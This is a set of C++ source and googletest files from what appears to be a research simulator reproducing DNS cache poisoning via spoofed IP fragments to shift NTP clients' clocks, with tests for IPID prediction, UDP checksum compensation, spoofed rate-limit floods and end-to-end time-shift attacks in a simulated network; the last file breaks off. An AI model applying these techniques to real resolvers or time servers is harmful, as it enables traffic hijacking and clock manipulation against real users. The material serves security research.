void WheelQueue::enable_tracking() {
  track_ = true;
  loc_.clear();
  for (u32 l = 0; l < kLevels; ++l) {
    for (u32 p = 0; p < kSlots; ++p) {
      const auto& bucket = buckets_[l][p];
      for (u32 i = 0; i < bucket.size(); ++i) {
        set_loc(bucket[i].payload, kLocBucket, static_cast<u8>(l),
                static_cast<u8>(p), i);
      }
    }
  }
  for (u32 i = 0; i < overflow_.size(); ++i) {
    set_loc(overflow_[i].payload, kLocOverflow, 0, 0, i);
  }
  for (const WheelEntry& e : ready_) set_loc(e.payload, kLocReady, 0, 0, 0);
}

bool WheelQueue::cancel(u32 payload) {
  if (!track_) enable_tracking();
  if (payload >= loc_.size()) return false;
  Loc& loc = loc_[payload];
  switch (loc.where) {
    case kLocBucket: {
      auto& bucket = buckets_[loc.level][loc.slot];
      assert(loc.index < bucket.size() &&
             bucket[loc.index].payload == payload);
      if (loc.index + 1 != bucket.size()) {
        bucket[loc.index] = bucket.back();
        loc_[bucket[loc.index].payload].index = loc.index;
      }
      bucket.pop_back();
      if (bucket.empty()) {
        // advance_to_ready treats a set bitmap bit as "non-empty bucket"
        // (and reads front() of level-0 candidates), so an emptied bucket
        // must clear its bit.
        bitmap_[loc.level][loc.slot >> 6] &= ~(1ull << (loc.slot & 63));
        trim_drained(bucket);
      }
      loc.where = kLocNone;
      size_--;
      return true;
    }
    case kLocOverflow: {
      assert(loc.index < overflow_.size() &&
             overflow_[loc.index].payload == payload);
      if (loc.index + 1 != overflow_.size()) {
        overflow_[loc.index] = overflow_.back();
        loc_[overflow_[loc.index].payload].index = loc.index;
      }
      overflow_.pop_back();
      // overflow_min_ may now be stale-low (we may have removed the min).
      // Harmless: at worst one early refill_from_overflow, which re-places
      // everything and recomputes the true minimum.
      loc.where = kLocNone;
      size_--;
      return true;
    }
    default:
      return false;  // kLocNone (not queued) or kLocReady (heap middle)
  }
}

}  // namespace dnstime::sim
