#include "attack/checksum_fixer.h"

#include <gtest/gtest.h>

#include "common/rng.h"
#include "net/checksum.h"
#include "net/udp.h"

namespace dnstime::attack {
namespace {

TEST(ChecksumFixer, FixedFragmentMatchesOriginalSum) {
  Bytes orig(64);
  Rng rng{7};
  for (auto& b : orig) b = static_cast<u8>(rng.uniform(0, 255));

  Bytes mutated = orig;
  // Corrupt a handful of bytes (the "malicious records").
  mutated[10] = 0x66;
  mutated[11] = 0x66;
  mutated[30] = 0x01;
  ASSERT_TRUE(fix_fragment_sum(orig, mutated, 40));
  EXPECT_TRUE(sums_equal(orig, mutated));
}

TEST(ChecksumFixer, OddOffsetRejected) {
  Bytes orig(16, 1);
  Bytes mutated = orig;
  mutated[0] = 9;
  EXPECT_FALSE(fix_fragment_sum(orig, mutated, 3));
}

TEST(ChecksumFixer, OffsetBeyondBufferRejected) {
  Bytes orig(16, 1);
  Bytes mutated = orig;
  EXPECT_FALSE(fix_fragment_sum(orig, mutated, 16));
}

TEST(ChecksumFixer, WorksForAllDeltas) {
  // Property sweep: any single 16-bit mutation is repairable.
  for (u32 v = 0; v < 0x10000; v += 257) {
    Bytes orig = {0x12, 0x34, 0x56, 0x78, 0x00, 0x00};
    Bytes mutated = orig;
    mutated[0] = static_cast<u8>(v >> 8);
    mutated[1] = static_cast<u8>(v);
    ASSERT_TRUE(fix_fragment_sum(orig, mutated, 4));
    EXPECT_TRUE(sums_equal(orig, mutated)) << "v=" << v;
  }
}

TEST(ChecksumFixer, EndToEndUdpChecksumSurvivesSplitAndSplice) {
  // Simulate the real situation: a UDP datagram is split; the second part
  // is mutated and fixed; the reassembled datagram must still pass
  // decode_udp's checksum verification.
  Ipv4Addr src{198, 51, 100, 53}, dst{10, 53, 0, 1};
  Bytes payload(300);
  Rng rng{11};
  for (auto& b : payload) b = static_cast<u8>(rng.uniform(0, 255));
  net::UdpDatagram dgram{.src_port = 53, .dst_port = 4242,
                         .payload = payload};
  Bytes wire = net::encode_udp(dgram, src, dst);

  const std::size_t split = 160;  // 8-aligned
  Bytes f2(wire.begin() + split, wire.end());
  Bytes f2_evil = f2;
  f2_evil[20] = 0x66;
  f2_evil[21] = 0x66;
  f2_evil[22] = 0x66;
  f2_evil[23] = 0x66;
  ASSERT_TRUE(fix_fragment_sum(f2, f2_evil, 40));

  Bytes spliced(wire.begin(), wire.begin() + split);
  spliced.insert(spliced.end(), f2_evil.begin(), f2_evil.end());
  // Must decode without checksum error and carry the mutated bytes.
  net::UdpDatagram out = net::decode_udp(spliced, src, dst);
  EXPECT_EQ(out.payload[split - net::kUdpHeaderSize + 20], 0x66);
}

}  // namespace
}  // namespace dnstime::attack
