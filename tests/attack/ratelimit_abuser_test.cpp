#include "attack/ratelimit_abuser.h"

#include <gtest/gtest.h>

#include "ntp/server.h"
#include "scenario/world.h"

namespace dnstime::attack {
namespace {

using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

const Ipv4Addr kVictim{10, 77, 0, 1};

TEST(RateLimitAbuser, VictimBecomesLimitedAtTargetServer) {
  World world;  // all pool servers rate-limit
  RateLimitAbuser abuser(world.attacker(), kVictim);
  Ipv4Addr target = world.pool_server_addrs()[0];
  abuser.disrupt(target);
  world.run_for(Duration::seconds(30));
  EXPECT_TRUE(world.pool_server(0).rate_limiter().is_limited(
      kVictim, world.loop().now()));
  EXPECT_GT(abuser.packets_spoofed(), 10u);
}

TEST(RateLimitAbuser, VictimPollsGoUnanswered) {
  World world;
  RateLimitAbuser abuser(world.attacker(), kVictim);
  Ipv4Addr target = world.pool_server_addrs()[0];
  abuser.disrupt(target);
  world.run_for(Duration::seconds(30));

  // The victim's genuine poll from its real host address gets nothing.
  auto& victim = world.add_host(kVictim);
  bool answered = false;
  u16 port = victim.stack->ephemeral_port();
  victim.stack->bind_udp(port, [&](const net::UdpEndpoint&, u16,
                                   BufView payload) {
    try {
      if (!ntp::decode_ntp(payload).is_kod()) answered = true;
    } catch (const DecodeError&) {
    }
  });
  ntp::NtpPacket query;
  query.mode = ntp::Mode::kClient;
  query.tx_time = 5.0;
  victim.stack->send_udp(target, port, kNtpPort, encode_ntp(query));
  world.run_for(Duration::seconds(5));
  EXPECT_FALSE(answered);
}

TEST(RateLimitAbuser, NonLimitingServerUnaffected) {
  WorldConfig wc;
  wc.rate_limit_fraction = 0.0;
  World world(wc);
  RateLimitAbuser abuser(world.attacker(), kVictim);
  Ipv4Addr target = world.pool_server_addrs()[0];
  abuser.disrupt(target);
  world.run_for(Duration::seconds(30));

  auto& victim = world.add_host(kVictim);
  bool answered = false;
  u16 port = victim.stack->ephemeral_port();
  victim.stack->bind_udp(port, [&](const net::UdpEndpoint&, u16,
                                   BufView) { answered = true; });
  ntp::NtpPacket query;
  query.mode = ntp::Mode::kClient;
  query.tx_time = 5.0;
  victim.stack->send_udp(target, port, kNtpPort, encode_ntp(query));
  world.run_for(Duration::seconds(5));
  EXPECT_TRUE(answered) << "servers without rate limiting cannot be abused";
}

TEST(RateLimitAbuser, OtherClientsCollateralFree) {
  // The flood punishes only the spoofed victim address; an unrelated
  // client keeps getting answers.
  World world;
  RateLimitAbuser abuser(world.attacker(), kVictim);
  Ipv4Addr target = world.pool_server_addrs()[0];
  abuser.disrupt(target);
  world.run_for(Duration::seconds(30));

  auto& bystander = world.add_host(Ipv4Addr{10, 78, 0, 1});
  bool answered = false;
  u16 port = bystander.stack->ephemeral_port();
  bystander.stack->bind_udp(port, [&](const net::UdpEndpoint&, u16,
                                      BufView) { answered = true; });
  ntp::NtpPacket query;
  query.mode = ntp::Mode::kClient;
  query.tx_time = 5.0;
  bystander.stack->send_udp(target, port, kNtpPort, encode_ntp(query));
  world.run_for(Duration::seconds(5));
  EXPECT_TRUE(answered);
}

TEST(RateLimitAbuser, StopCeasesFlooding) {
  World world;
  RateLimitAbuser abuser(world.attacker(), kVictim);
  abuser.disrupt_all(world.pool_server_addrs());
  world.run_for(Duration::seconds(10));
  u64 sent = abuser.packets_spoofed();
  abuser.stop();
  world.run_for(Duration::seconds(10));
  EXPECT_EQ(abuser.packets_spoofed(), sent);
  EXPECT_EQ(abuser.active_targets(), 0u);
}

}  // namespace
}  // namespace dnstime::attack
