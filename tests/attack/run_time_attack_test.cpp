// End-to-end run-time attacks (§IV-B / Fig. 3 / Table II): the victim is
// synchronised to honest pool servers; the attacker poisons the
// delegation, removes the victim's associations via spoofed rate-limit
// floods, and waits for the victim to re-query DNS and step to -500 s.
#include "attack/run_time_attack.h"

#include <gtest/gtest.h>

#include "attack/query_trigger.h"
#include "ntp/clients/ntpd.h"
#include "ntp/clients/sntp_timesyncd.h"
#include "scenario/world.h"

namespace dnstime::attack {
namespace {

using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

const Ipv4Addr kVictimAddr{10, 77, 0, 1};

ntp::ClientBaseConfig client_config(World& world) {
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  return cfg;
}

/// Bring up a victim, let it synchronise honestly, then poison the
/// delegation through the real fragmentation pipeline.
void poison_via_fragments(World& world) {
  auto poisoner = std::make_shared<CachePoisoner>(
      world.attacker(), world.default_poisoner_config());
  poisoner->start();
  world.run_for(Duration::seconds(20));
  QueryTrigger::via_open_resolver(world.attacker(), world.resolver_addr(),
                                  dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(10));
  ASSERT_TRUE(world.delegation_hijacked());
  poisoner->stop();
}

TEST(RunTimeAttack, P1KnownListShiftsNtpd) {
  World world;
  auto& host = world.add_host(kVictimAddr);
  ntp::NtpdClient client(*host.stack, host.clock, client_config(world));
  client.start();
  world.run_for(Duration::minutes(10));
  ASSERT_NEAR(host.clock.offset(), 0.0, 1.0);  // honestly synchronised

  poison_via_fragments(world);

  RunTimeConfig rc;
  rc.discovery = RunTimeConfig::Discovery::kKnownList;
  rc.known_servers = world.pool_server_addrs();  // §IV-B2a enumeration
  rc.victim = kVictimAddr;
  RunTimeAttack attack(world.attacker(), rc);
  std::optional<AttackOutcome> outcome;
  attack.run([&] { return host.clock.offset() < -400.0; },
             [&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::hours(3));
  ASSERT_TRUE(outcome.has_value());
  EXPECT_TRUE(outcome->success);
  EXPECT_NEAR(host.clock.offset(), -500.0, 5.0);
}

TEST(RunTimeAttack, P2RefidLeakShiftsNtpdSlower) {
  World world;
  auto& host = world.add_host(kVictimAddr);
  ntp::NtpdClient client(*host.stack, host.clock, client_config(world));
  ntp::NtpServer victim_server(*host.stack, host.clock, ntp::ServerConfig{});
  client.attach_server(&victim_server);  // default ntpd: also a server
  client.start();
  world.run_for(Duration::minutes(10));
  ASSERT_NEAR(host.clock.offset(), 0.0, 1.0);

  poison_via_fragments(world);

  RunTimeConfig rc;
  rc.discovery = RunTimeConfig::Discovery::kRefidLeak;
  rc.victim = kVictimAddr;
  RunTimeAttack attack(world.attacker(), rc);
  std::optional<AttackOutcome> outcome;
  attack.run([&] { return host.clock.offset() < -400.0; },
             [&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::hours(4));
  ASSERT_TRUE(outcome.has_value());
  EXPECT_TRUE(outcome->success) << "P2 should still succeed, just slower";
  EXPECT_GT(attack.discovered().size(), 1u);  // learned upstreams one by one
}

TEST(RunTimeAttack, ConfigInterfaceDiscoveryWorks) {
  World world;
  auto& host = world.add_host(kVictimAddr);
  ntp::NtpdClient client(*host.stack, host.clock, client_config(world));
  ntp::ServerConfig vs;
  vs.open_config_interface = true;  // the 5.3% case
  ntp::NtpServer victim_server(*host.stack, host.clock, vs);
  client.attach_server(&victim_server);
  client.start();
  world.run_for(Duration::minutes(10));

  poison_via_fragments(world);

  RunTimeConfig rc;
  rc.discovery = RunTimeConfig::Discovery::kConfigInterface;
  rc.victim = kVictimAddr;
  RunTimeAttack attack(world.attacker(), rc);
  std::optional<AttackOutcome> outcome;
  attack.run([&] { return host.clock.offset() < -400.0; },
             [&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::hours(4));
  ASSERT_TRUE(outcome.has_value());
  EXPECT_TRUE(outcome->success);
}

TEST(RunTimeAttack, TimesyncdFallsAfterListExhaustion) {
  World world;
  auto& host = world.add_host(kVictimAddr);
  ntp::TimesyncdClient client(*host.stack, host.clock, client_config(world));
  client.start();
  world.run_for(Duration::minutes(5));
  ASSERT_NEAR(host.clock.offset(), 0.0, 1.0);

  poison_via_fragments(world);

  RunTimeConfig rc;
  rc.discovery = RunTimeConfig::Discovery::kKnownList;
  rc.known_servers = world.pool_server_addrs();
  rc.victim = kVictimAddr;
  RunTimeAttack attack(world.attacker(), rc);
  std::optional<AttackOutcome> outcome;
  attack.run([&] { return host.clock.offset() < -400.0; },
             [&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::hours(2));
  ASSERT_TRUE(outcome.has_value());
  EXPECT_TRUE(outcome->success);
}

TEST(RunTimeAttack, FailsWhenNoServerRateLimits) {
  WorldConfig wc;
  wc.rate_limit_fraction = 0.0;  // nothing to abuse
  World world(wc);
  auto& host = world.add_host(kVictimAddr);
  ntp::NtpdClient client(*host.stack, host.clock, client_config(world));
  client.start();
  world.run_for(Duration::minutes(10));
  poison_via_fragments(world);

  RunTimeConfig rc;
  rc.discovery = RunTimeConfig::Discovery::kKnownList;
  rc.known_servers = world.pool_server_addrs();
  rc.victim = kVictimAddr;
  rc.deadline = Duration::hours(1);
  RunTimeAttack attack(world.attacker(), rc);
  std::optional<AttackOutcome> outcome;
  attack.run([&] { return host.clock.offset() < -400.0; },
             [&](const AttackOutcome& o) { outcome = o; });
  world.run_for(Duration::hours(2));
  ASSERT_TRUE(outcome.has_value());
  EXPECT_FALSE(outcome->success)
      << "without rate limiting the associations cannot be removed";
  EXPECT_NEAR(host.clock.offset(), 0.0, 1.0);
}

}  // namespace
}  // namespace dnstime::attack
