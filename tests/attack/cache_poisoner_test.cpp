// Full off-path poisoning pipeline against a live World: ICMP MTU
// reduction -> template fetch -> IPID prediction -> fragment planting ->
// victim-triggered query -> delegation hijack -> pool A served from the
// attacker's nameserver.
#include "attack/cache_poisoner.h"

#include <gtest/gtest.h>

#include "attack/query_trigger.h"
#include "scenario/world.h"

namespace dnstime::attack {
namespace {

using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

TEST(CachePoisoner, ArmsAndPlantsFragments) {
  World world;
  CachePoisoner poisoner(world.attacker(), world.default_poisoner_config());
  bool armed = false;
  poisoner.start([&] { armed = true; });
  world.run_for(Duration::seconds(30));
  EXPECT_TRUE(armed);
  EXPECT_TRUE(poisoner.crafted().has_value());
  EXPECT_EQ(poisoner.crafted()->rewritten_records, 3u);
  EXPECT_TRUE(poisoner.prediction().valid);
  EXPECT_GT(poisoner.fragments_planted(), 0u);
}

TEST(CachePoisoner, PoisonsDelegationWhenQueryTriggered) {
  World world;
  CachePoisoner poisoner(world.attacker(), world.default_poisoner_config());
  poisoner.start();
  world.run_for(Duration::seconds(20));

  // Trigger the victim resolver's upstream query (open-resolver path).
  QueryTrigger::via_open_resolver(world.attacker(), world.resolver_addr(),
                                  dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(10));
  EXPECT_TRUE(world.delegation_hijacked());

  // After the honest A record's 150 s TTL expires, the next query goes to
  // the attacker's nameserver and caches attacker NTP addresses.
  world.run_for(Duration::seconds(160));
  QueryTrigger::via_open_resolver(world.attacker(), world.resolver_addr(),
                                  dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(10));
  EXPECT_TRUE(world.pool_a_poisoned());
}

TEST(CachePoisoner, VerifyProbeSeesPoisonedPoolRecord) {
  World world;
  auto pc = world.default_poisoner_config();
  // Tell verification to look for the NTP fleet the attacker NS serves.
  pc.malicious_addrs = {world.attacker_ns_addr()};
  CachePoisoner poisoner(world.attacker(), pc);
  poisoner.start();
  world.run_for(Duration::seconds(20));
  QueryTrigger::via_open_resolver(world.attacker(), world.resolver_addr(),
                                  dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(170));
  QueryTrigger::via_open_resolver(world.attacker(), world.resolver_addr(),
                                  dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(10));

  // RD=0 probe for the glue name must now return the attacker's NS addr.
  bool checked = false, poisoned = false;
  CachePoisoner probe(world.attacker(), pc);
  probe.verify_poisoned(dns::DnsName::from_string("ns1.ntp.org"),
                        [&](bool hit) {
                          checked = true;
                          poisoned = hit;
                        });
  world.run_for(Duration::seconds(5));
  EXPECT_TRUE(checked);
  EXPECT_TRUE(poisoned);
}

TEST(CachePoisoner, FailsAgainstFragmentRejectingResolver) {
  WorldConfig cfg;
  cfg.resolver_stack.accept_fragments = false;  // the 68% of Table V
  World world(cfg);
  CachePoisoner poisoner(world.attacker(), world.default_poisoner_config());
  poisoner.start();
  world.run_for(Duration::seconds(20));
  QueryTrigger::via_open_resolver(world.attacker(), world.resolver_addr(),
                                  dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(30));
  // The resolver drops all fragments: neither the spoofed nor the genuine
  // fragmented response lands, so nothing is poisoned.
  EXPECT_FALSE(world.delegation_hijacked());
  EXPECT_FALSE(world.pool_a_poisoned());
}

TEST(CachePoisoner, FailsAgainstPmtudIgnoringNameserver) {
  WorldConfig cfg;
  cfg.ns_stack.honor_icmp_frag_needed = false;  // the 14/30 of §VII-B
  World world(cfg);
  CachePoisoner poisoner(world.attacker(), world.default_poisoner_config());
  poisoner.start();
  world.run_for(Duration::seconds(20));
  QueryTrigger::via_open_resolver(world.attacker(), world.resolver_addr(),
                                  dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(30));
  // The nameserver never fragments, so the genuine (whole) response wins
  // and the planted fragments rot in the cache.
  EXPECT_FALSE(world.delegation_hijacked());
}

TEST(CachePoisoner, FailsAgainstRandomizedIpid) {
  WorldConfig cfg;
  cfg.ns_stack.ipid_mode = net::IpidMode::kRandom;
  World world(cfg);
  auto pc = world.default_poisoner_config();
  pc.spray_width = 16;
  CachePoisoner poisoner(world.attacker(), pc);
  poisoner.start();
  world.run_for(Duration::seconds(20));
  for (int i = 0; i < 5; ++i) {
    QueryTrigger::via_open_resolver(
        world.attacker(), world.resolver_addr(),
        dns::DnsName::from_string("pool.ntp.org"));
    world.run_for(Duration::seconds(160));
  }
  // 16/65536 per try, 5 tries: overwhelmingly likely to fail.
  EXPECT_FALSE(world.delegation_hijacked());
}

TEST(CachePoisoner, SmtpTriggerPoisonsSharedResolver) {
  // §VIII-B3: the query is triggered through an Email host that shares
  // the victim resolver — the attacker never queries the resolver itself.
  World world;
  auto& mail_host = world.add_host(Ipv4Addr{10, 77, 0, 25});
  SmtpServer smtp(*mail_host.stack, world.resolver_addr());

  CachePoisoner poisoner(world.attacker(), world.default_poisoner_config());
  poisoner.start();
  world.run_for(Duration::seconds(20));

  QueryTrigger::via_smtp(world.attacker(), mail_host.stack->addr(),
                         dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(10));
  EXPECT_EQ(smtp.mails_received(), 1u);
  EXPECT_TRUE(world.delegation_hijacked());
}

}  // namespace
}  // namespace dnstime::attack
