#include "attack/fragment_crafter.h"

#include <gtest/gtest.h>

#include "dns/pool_zone.h"
#include "net/fragmentation.h"
#include "net/reassembly.h"
#include "net/udp.h"

namespace dnstime::attack {
namespace {

const Ipv4Addr kNs{198, 51, 100, 53};
const Ipv4Addr kResolver{10, 53, 0, 1};
const Ipv4Addr kEvil{6, 6, 6, 53};

dns::DnsMessage pool_response() {
  dns::PoolZone::Config cfg;
  cfg.pad_txt_bytes = 80;
  cfg.nameservers = {
      {dns::DnsName::from_string("ns1.ntp.org"), kNs},
      {dns::DnsName::from_string("ns2.ntp.org"), kNs},
      {dns::DnsName::from_string("ns3.ntp.org"), kNs},
  };
  std::vector<Ipv4Addr> servers;
  for (u32 i = 1; i <= 16; ++i) servers.push_back(Ipv4Addr{0x0A0A0000 + i});
  dns::PoolZone zone(dns::DnsName::from_string("pool.ntp.org"), servers, cfg);
  dns::DnsMessage resp = zone.peek_response(
      dns::DnsQuestion{dns::DnsName::from_string("pool.ntp.org"),
                       dns::RrType::kA});
  resp.id = 0xABCD;  // per-query fields live in f1 and should not matter
  return resp;
}

CraftConfig config() {
  CraftConfig cc;
  cc.ns_addr = kNs;
  cc.resolver_addr = kResolver;
  cc.mtu = 296;
  cc.malicious_addrs = {kEvil};
  return cc;
}

TEST(FragmentCrafter, RewritesGlueRecords) {
  Bytes wire = encode_dns(pool_response());
  auto crafted = craft_spoofed_second_fragment(wire, config());
  ASSERT_TRUE(crafted);
  EXPECT_EQ(crafted->rewritten_records, 3u);  // all three glue A records
  EXPECT_EQ(crafted->fragment.src, kNs);
  EXPECT_EQ(crafted->fragment.dst, kResolver);
  EXPECT_FALSE(crafted->fragment.more_fragments);
  EXPECT_EQ(crafted->fragment.frag_offset_bytes(),
            crafted->first_fragment_payload);
}

TEST(FragmentCrafter, FailsWhenResponseDoesNotFragment) {
  dns::DnsMessage small;
  small.qr = true;
  small.questions = {dns::DnsQuestion{
      dns::DnsName::from_string("pool.ntp.org"), dns::RrType::kA}};
  small.answers.push_back(dns::make_a(
      dns::DnsName::from_string("pool.ntp.org"), Ipv4Addr{1, 1, 1, 1}, 150));
  EXPECT_FALSE(craft_spoofed_second_fragment(encode_dns(small), config()));
}

TEST(FragmentCrafter, FailsWithoutMaliciousAddrs) {
  CraftConfig cc = config();
  cc.malicious_addrs.clear();
  EXPECT_FALSE(craft_spoofed_second_fragment(encode_dns(pool_response()), cc));
}

TEST(FragmentCrafter, EndToEndPoisonedReassemblyPassesAllChecks) {
  // The full §III chain, byte-for-byte: genuine response fragments at the
  // induced MTU; the spoofed second fragment was planted first; reassembly
  // prefers it; the result passes the UDP checksum and decodes to a DNS
  // message whose glue points at the attacker.
  dns::DnsMessage genuine = pool_response();
  Bytes template_wire = encode_dns(genuine);
  CraftConfig cc = config();
  auto crafted = craft_spoofed_second_fragment(template_wire, cc);
  ASSERT_TRUE(crafted);

  // The genuine response as the nameserver would emit it to the resolver.
  // Different TXID than the template (TXID sits in f1).
  dns::DnsMessage victim_copy = genuine;
  victim_copy.id = 0x1357;
  net::Ipv4Packet full;
  full.src = kNs;
  full.dst = kResolver;
  full.id = 0x4242;
  full.protocol = net::kProtoUdp;
  full.payload = net::encode_udp(
      net::UdpDatagram{.src_port = 53, .dst_port = 3333,
                       .payload = encode_dns(victim_copy)},
      kNs, kResolver);
  auto frags = net::fragment(full, cc.mtu);
  ASSERT_EQ(frags.size(), 2u);

  // Plant the spoofed fragment (matching IPID), then deliver genuine f1.
  net::ReassemblyCache cache;
  net::Ipv4Packet spoofed = crafted->fragment;
  spoofed.id = full.id;
  ASSERT_FALSE(cache.insert(spoofed, sim::Time{}));
  auto reassembled = cache.insert(frags[0], sim::Time{});
  ASSERT_TRUE(reassembled);

  // Transport layer: UDP checksum must verify (the §III-3 compensation).
  net::UdpDatagram dgram =
      net::decode_udp(reassembled->payload, kNs, kResolver);
  EXPECT_EQ(dgram.dst_port, 3333);

  // Application layer: DNS must parse; glue must now be attacker's.
  dns::DnsMessage poisoned = dns::decode_dns(dgram.payload);
  EXPECT_EQ(poisoned.id, 0x1357);  // genuine TXID preserved (from f1)
  ASSERT_EQ(poisoned.additional.size(), 3u);
  for (const auto& rr : poisoned.additional) {
    EXPECT_EQ(rr.a, kEvil);
    EXPECT_GE(rr.ttl, u32{1} << 24);  // raised TTL survives compensation
  }
  // The answer section (fragment 1) is untouched.
  ASSERT_EQ(poisoned.answers.size(), genuine.answers.size());
  for (std::size_t i = 0; i < poisoned.answers.size(); ++i) {
    if (poisoned.answers[i].type == dns::RrType::kA) {
      EXPECT_EQ(poisoned.answers[i].a, genuine.answers[i].a);
    }
  }
}

TEST(FragmentCrafter, TemplateWithDifferentRotationStillWorks) {
  // The attacker's template was fetched at a different pool-rotation
  // position than the victim's response: the second fragment (zone tail)
  // is identical, so the craft must still verify.
  dns::PoolZone::Config cfg;
  cfg.pad_txt_bytes = 80;
  cfg.nameservers = {
      {dns::DnsName::from_string("ns1.ntp.org"), kNs},
      {dns::DnsName::from_string("ns2.ntp.org"), kNs},
      {dns::DnsName::from_string("ns3.ntp.org"), kNs},
  };
  std::vector<Ipv4Addr> servers;
  for (u32 i = 1; i <= 16; ++i) servers.push_back(Ipv4Addr{0x0A0A0000 + i});
  dns::PoolZone zone(dns::DnsName::from_string("pool.ntp.org"), servers, cfg);
  dns::DnsQuestion q{dns::DnsName::from_string("pool.ntp.org"),
                     dns::RrType::kA};

  dns::DnsMessage template_msg = zone.peek_response(q);  // rotation 0
  zone.set_rotation(8);
  dns::DnsMessage victim_msg = zone.peek_response(q);    // rotation 8
  victim_msg.id = 0x9999;

  auto crafted =
      craft_spoofed_second_fragment(encode_dns(template_msg), config());
  ASSERT_TRUE(crafted);

  net::Ipv4Packet full;
  full.src = kNs;
  full.dst = kResolver;
  full.id = 7;
  full.protocol = net::kProtoUdp;
  full.payload = net::encode_udp(
      net::UdpDatagram{.src_port = 53, .dst_port = 1111,
                       .payload = encode_dns(victim_msg)},
      kNs, kResolver);
  auto frags = net::fragment(full, 296);
  ASSERT_EQ(frags.size(), 2u);

  net::ReassemblyCache cache;
  net::Ipv4Packet spoofed = crafted->fragment;
  spoofed.id = 7;
  (void)cache.insert(spoofed, sim::Time{});
  auto reassembled = cache.insert(frags[0], sim::Time{});
  ASSERT_TRUE(reassembled);
  // Checksum still verifies despite the answers differing: they live in
  // fragment 1, which we did not touch.
  net::UdpDatagram dgram =
      net::decode_udp(reassembled->payload, kNs, kResolver);
  dns::DnsMessage poisoned = dns::decode_dns(dgram.payload);
  EXPECT_EQ(poisoned.additional[0].a, kEvil);
  EXPECT_EQ(poisoned.answers[0].a, victim_msg.answers[0].a);
}

}  // namespace
}  // namespace dnstime::attack
