#include "attack/ipid_predictor.h"

#include <gtest/gtest.h>

#include "scenario/world.h"

namespace dnstime::attack {
namespace {

using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

TEST(IpidProber, PredictsQuietNameserver) {
  World world;
  IpidProber prober(world.attacker(), world.pool_ns_addr(),
                    IpidProber::Config{});
  std::optional<IpidPrediction> got;
  prober.run([&](const IpidPrediction& p) { got = p; });
  world.run_for(Duration::seconds(10));
  ASSERT_TRUE(got.has_value());
  ASSERT_TRUE(got->valid);
  EXPECT_NEAR(got->rate_per_second, 0.0, 0.5);  // no background traffic
  // The next response's IPID is the observed one plus one.
  EXPECT_EQ(got->predict_at(world.loop().now()),
            static_cast<u16>(got->last_observed + 1));
}

TEST(IpidProber, TracksBackgroundTrafficRate) {
  World world;
  // Background load: a chatty host queries the pool NS 4 times a second.
  auto& chatty = world.add_host(Ipv4Addr{10, 99, 0, 1});
  net::NetStack* chatty_stack = chatty.stack.get();
  Ipv4Addr ns = world.pool_ns_addr();
  std::function<void()> tick = [&world, chatty_stack, ns, &tick] {
    dns::DnsMessage q;
    q.id = chatty_stack->rng().next_u16();
    q.questions = {dns::DnsQuestion{
        dns::DnsName::from_string("pool.ntp.org"), dns::RrType::kA}};
    chatty_stack->send_udp(ns, chatty_stack->ephemeral_port(), kDnsPort,
                           encode_dns(q));
    world.loop().schedule_after(Duration::millis(250), tick);
  };
  tick();

  IpidProber::Config pc;
  pc.probes = 8;
  IpidProber prober(world.attacker(), ns, pc);
  std::optional<IpidPrediction> got;
  prober.run([&](const IpidPrediction& p) { got = p; });
  world.run_for(Duration::seconds(15));
  ASSERT_TRUE(got.has_value());
  ASSERT_TRUE(got->valid);
  EXPECT_NEAR(got->rate_per_second, 4.0, 1.5);
}

TEST(IpidProber, RandomizedIpidYieldsGarbageRate) {
  WorldConfig wc;
  wc.ns_stack.ipid_mode = net::IpidMode::kRandom;
  World world(wc);
  IpidProber prober(world.attacker(), world.pool_ns_addr(),
                    IpidProber::Config{});
  std::optional<IpidPrediction> got;
  prober.run([&](const IpidPrediction& p) { got = p; });
  world.run_for(Duration::seconds(10));
  ASSERT_TRUE(got.has_value());
  // The fit "succeeds" but extrapolates nonsense — random deltas average
  // thousands of increments per second.
  EXPECT_GT(got->rate_per_second, 100.0);
}

TEST(SprayWindow, CoversConsecutiveValuesFromPrediction) {
  IpidPrediction p;
  p.valid = true;
  p.last_observed = 1000;
  p.observed_at = sim::Time{};
  p.rate_per_second = 2.0;
  auto window =
      spray_window(p, sim::Time{} + Duration::seconds(10), 8);
  ASSERT_EQ(window.size(), 8u);
  EXPECT_EQ(window.front(), 1021);  // 1000 + 2*10 + 1
  for (std::size_t i = 1; i < window.size(); ++i) {
    EXPECT_EQ(window[i], static_cast<u16>(window[i - 1] + 1));
  }
}

TEST(SprayWindow, WrapsAroundSixteenBits) {
  IpidPrediction p;
  p.valid = true;
  p.last_observed = 0xFFFE;
  p.observed_at = sim::Time{};
  p.rate_per_second = 0.0;
  auto window = spray_window(p, sim::Time{}, 4);
  EXPECT_EQ(window[0], 0xFFFF);
  EXPECT_EQ(window[1], 0x0000);  // wrapped
}

}  // namespace
}  // namespace dnstime::attack
