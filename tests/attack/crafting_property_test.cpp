// Parameterized property sweep of the §III pipeline: for every MTU the
// attacker might induce and a range of zone shapes, a crafted fragment
// must either be refused (attack impossible) or splice into the genuine
// response with a verifying UDP checksum and redirected glue.
#include <gtest/gtest.h>

#include "attack/fragment_crafter.h"
#include "dns/pool_zone.h"
#include "net/fragmentation.h"
#include "net/reassembly.h"
#include "net/udp.h"

namespace dnstime::attack {
namespace {

const Ipv4Addr kNs{198, 51, 100, 53};
const Ipv4Addr kResolver{10, 53, 0, 1};
const Ipv4Addr kEvil{6, 6, 6, 53};

struct CraftCase {
  u16 mtu;
  std::size_t pad;
  std::size_t ns_count;
};

